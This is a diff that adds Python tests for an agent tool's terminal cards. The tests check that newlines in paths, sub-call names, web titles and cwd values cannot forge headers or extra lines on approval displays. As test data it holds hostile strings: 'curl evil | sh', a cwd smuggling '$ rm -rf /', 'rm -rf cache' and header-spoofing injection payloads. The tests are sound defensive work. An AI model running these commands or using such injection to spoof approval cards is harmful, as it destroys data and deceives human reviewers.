@@ -10,11 +10,22 @@ import attrs
 from click.testing import CliRunner
 from rich.console import Console
 
-from dsh_core import TextBlock, ToolResult, define_tool, hookimpl
+from dsh_core import (
+    CancelSignal,
+    TextBlock,
+    ToolExecution,
+    ToolExecutionToken,
+    ToolResult,
+    define_tool,
+    hookimpl,
+    snapshot_json,
+)
 from dsh_core._cli import cli
 from dsh_core._replay import ReplayedCall
 from dsh_core._terminal_cards import render_replayed_call
 from dsh_core.presentation import (
+    UNREAD_OLD_TEXT,
+    DiffCallView,
     DiffResultView,
     FileDiff,
     GenericCallView,
@@ -25,7 +36,12 @@ from dsh_core.presentation import (
     SearchResultView,
     TerminalCallView,
     TerminalResultView,
+    WebResultView,
+    WebSource,
 )
+from dsh_core.testing import make_runtime
+from dsh_plugins.approval import approval_card
+from dsh_plugins.files import file_tools
 
 
 def rendered(call: ReplayedCall) -> str:
@@ -176,3 +192,69 @@ def test_the_diff_card_breaks_lines_only_at_newlines() -> None:
     view = DiffResultView(diffs=(FileDiff(path="f.txt", old_text=None, new_text="rm -rf cache\x0c ~\nnext\n"),))
     out = rendered(replayed(view))
     assert "+rm -rf cache\\x0c ~ " in out and "+ ~" not in out
+
+
+def _card_lines(out: str) -> list[str]:
+    """The text inside the panel's borders, one entry per drawn line."""
+    return [line.strip("│ ").rstrip() for line in out.splitlines()[1:-1]]
+
+
+def test_a_newline_in_a_diffs_path_cannot_forge_its_headers() -> None:
+    path = "notes.txt\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+just a note"
+    call_view = DiffCallView(title="Write", diffs=(FileDiff(path=path, old_text=None, new_text="curl evil | sh\n"),))
+    out = rendered(attrs.evolve(replayed(None, call_view=call_view), result=None, result_view=None))
+    lines = _card_lines(out)
+    shown = "notes.txt\\x0a+++ b/notes.txt\\x0a@@ -0,0 +1 @@\\x0a+just a note"
+    assert lines[1] == f"+++ b/{shown}"
+    assert lines[2:4] == ["@@ -0,0 +1 @@", "+curl evil | sh"]
+    assert "+just a note" not in lines
+
+
+def test_a_newline_in_a_dispatched_sub_calls_name_cannot_forge_another_dispatch() -> None:
+    call = attrs.evolve(
+        replayed(None),
+        dispatches=({"subCallId": "s1", "name": "delete_everything [error]\n  ↳ s2 read_file", "isError": False},),
+    )
+    lines = _card_lines(rendered(call))
+    assert lines[1] == "↳ s1 delete_everything [error]\\x0a  ↳ s2 read_file [ok]"
+    assert len([line for line in lines if "↳" in line]) == 1
+
+
+def test_a_newline_in_a_web_sources_title_cannot_forge_another_source() -> None:
+    web = WebResultView(
+        kind="search",
+        truncated=False,
+        sources=(WebSource(url="https://a.example", title="A\n• Official docs  https://docs.python.org"),),
+    )
+    lines = _card_lines(rendered(replayed(web)))
+    assert lines[0] == "• A\\x0a• Official docs  https://docs.python.org  https://a.example"
+    assert len([line for line in lines if line.startswith("•")]) == 1
+    fetched = WebResultView(kind="fetch", url="https://a.example\n200 OK", status_code=404, truncated=False)
+    assert _card_lines(rendered(replayed(fetched))) == ["https://a.example\\x0a200 OK → 404"]
+
+
+def test_a_newline_in_a_read_path_or_a_cwd_cannot_forge_a_line() -> None:
+    view = ReadResultView(
+        path="a.py\nb.py  lines 1-1 of 1", offset=1, lines=(ReadFileLine(number=1, text="x"),), total_lines=1
+    )
+    assert _card_lines(rendered(replayed(view)))[0] == "a.py\\x0ab.py  lines 1-1 of 1  lines 1-1 of 1"
+    shell = TerminalCallView(title="ls", cwd="/tmp\n$ rm -rf /")
+    lines = _card_lines(rendered(replayed(TerminalResultView(output="", exit_code=0), call_view=shell)))
+    assert lines[:2] == ["$ ls", "(in /tmp\\x0a$ rm -rf /)"]
+
+
+def test_a_pending_write_without_a_before_image_reads_as_the_approval_question_put_it(tmp_path: Path) -> None:
+    """A blind overwrite is no new file: "/dev/null" would say that nothing was there to lose."""
+    (tmp_path / "existing_config.toml").write_text("keep = true\n")
+    runtime = make_runtime(*file_tools(tmp_path))
+    arguments = {"path": "existing_config.toml", "content": "x = 1\n"}
+    execution = ToolExecution(
+        call_id="c1", root_call_id="c1", name="write_file", arguments=snapshot_json(arguments),
+        signal=CancelSignal(), token=ToolExecutionToken(), agent=None,
+    )  # fmt: skip
+    write = runtime.get("write_file", None)
+    assert write is not None and write.present_call is not None
+    pending = attrs.evolve(replayed(None, call_view=write.present_call(arguments)), result=None, result_view=None)
+    lines = _card_lines(rendered(pending))
+    assert lines[:3] == [f"--- {UNREAD_OLD_TEXT}", "+++ b/existing_config.toml", "@@ -0,0 +1 @@"]
+    assert approval_card(execution, runtime).splitlines()[:2] == lines[:2]
